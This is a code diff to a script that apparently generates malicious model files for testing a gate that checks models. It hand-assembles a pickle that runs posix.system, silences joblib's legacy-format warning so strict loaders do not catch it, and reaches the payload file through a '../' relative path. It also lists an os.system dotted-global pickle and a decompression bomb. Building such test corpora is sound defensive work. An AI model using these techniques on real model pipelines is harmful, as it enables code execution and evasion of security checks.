@@ -17,7 +17,10 @@ one: evidence that the folder is a working attack, not a broken file.
   (written by joblib <= 0.9) naming a second file of the folder; joblib.load reads that file with
   ``numpy.load(allow_pickle=True)``, and it is an object .npy whose pickle runs the payload and
   then returns the real components. The second file has no .npy suffix and starts with numpy's
-  magic, not a pickle's.
+  magic, not a pickle's; the wrapper names it as ``../corpus-pickle-legacy-wrapper/...``, which
+  reaches the server folder from the worker's /mnt/model and from /mnt/<Name>, and a copy beside
+  template.yaml from the model file's folder on the gate's machine. The same pickle silences
+  joblib's warning about the legacy format.
 * ``pickle_dotted_global``: ``{"model": nmf, "provenance": ...}``, the provenance a call of the
   global ``logging`` / ``os.system`` (protocol 4 resolves the dotted name: logging imports os).
 * ``pickle_unlisted_resolver``: the NMF with ``training_provenance_`` =
@@ -66,6 +69,11 @@ MODEL_FILES = {
     "compressed_joblib_bomb": "nmf_bpix1.joblib",
 }
 LEGACY_ARRAY_FILE = "nmf_bpix1.components"  # the second file of pickle_legacy_wrapper
+#: Where the wrapper points, relative to the model file's folder: the server folder as a worker
+#: mounts it (/mnt/<Name>, the model file alone in /mnt/model) and as it is served (/mnt/<Name>),
+#: and, on the gate's machine, a folder of that name beside template.yaml.
+LEGACY_SERVER_NAME = "corpus-pickle-legacy-wrapper"
+LEGACY_ARRAY_PATH = f"../{LEGACY_SERVER_NAME}/{LEGACY_ARRAY_FILE}"
 BOMB_BYTES = 3 * 2**29  # 1.5 GiB of zeros once decompressed
 
 
@@ -114,23 +122,30 @@ def legacy_wrapper_folder(nmf) -> None:
     # The object .npy: numpy's header for an object array, then a pickle that runs the payload,
     # drops its result and goes on with the real components (what numpy.load returns).
     array_pickle = pickle.dumps(np.ascontiguousarray(nmf.components_), protocol=2)
+
+    def text(value: str) -> bytes:  # BINUNICODE
+        return b"X" + struct.pack("<I", len(value.encode())) + value.encode()
+
     payload = (
         b"\x80\x02"
-        + b"cposix\nsystem\n"
-        + b"X"
-        + struct.pack("<I", len(touch_command(folder)))
-        + touch_command(folder).encode()
-        + b"\x85R0"  # TUPLE1, REDUCE, POP
+        + b"cposix\nsystem\n" + text(touch_command(folder)) + b"\x85R0"  # TUPLE1, REDUCE, POP
+        # and silence joblib's "generated with a joblib version less than 0.10" warning, which
+        # a strict loader (warnings as errors) would trip over once the wrapper is read
+        + b"cwarnings\nfilterwarnings\n" + text("ignore") + text("The file .* joblib version less than 0.10")
+        + b"\x86R0"  # TUPLE2, REDUCE, POP
         + array_pickle[2:]  # the array's pickle without its PROTO header
-    )
+    )  # fmt: skip
     pickletools.dis(payload, out=io.StringIO())  # one well-formed pickle
     header = io.BytesIO()
     np.lib.format.write_array_header_1_0(header, {"descr": "|O", "fortran_order": False, "shape": nmf.components_.shape})
-    target(folder, LEGACY_ARRAY_FILE).write_bytes(header.getvalue() + payload)
-    report(target(folder, LEGACY_ARRAY_FILE))
+    beside_template = HERE / folder / LEGACY_SERVER_NAME / LEGACY_ARRAY_FILE
+    beside_template.parent.mkdir(exist_ok=True)
+    for path in (target(folder, LEGACY_ARRAY_FILE), beside_template):
+        path.write_bytes(header.getvalue() + payload)
+        report(path)
 
     carrier = copy.deepcopy(nmf)
-    carrier.components_ = NDArrayWrapper(LEGACY_ARRAY_FILE, np.ndarray, allow_mmap=False)
+    carrier.components_ = NDArrayWrapper(LEGACY_ARRAY_PATH, np.ndarray, allow_mmap=False)
     joblib.dump(carrier, target(folder))
     report(target(folder))
 
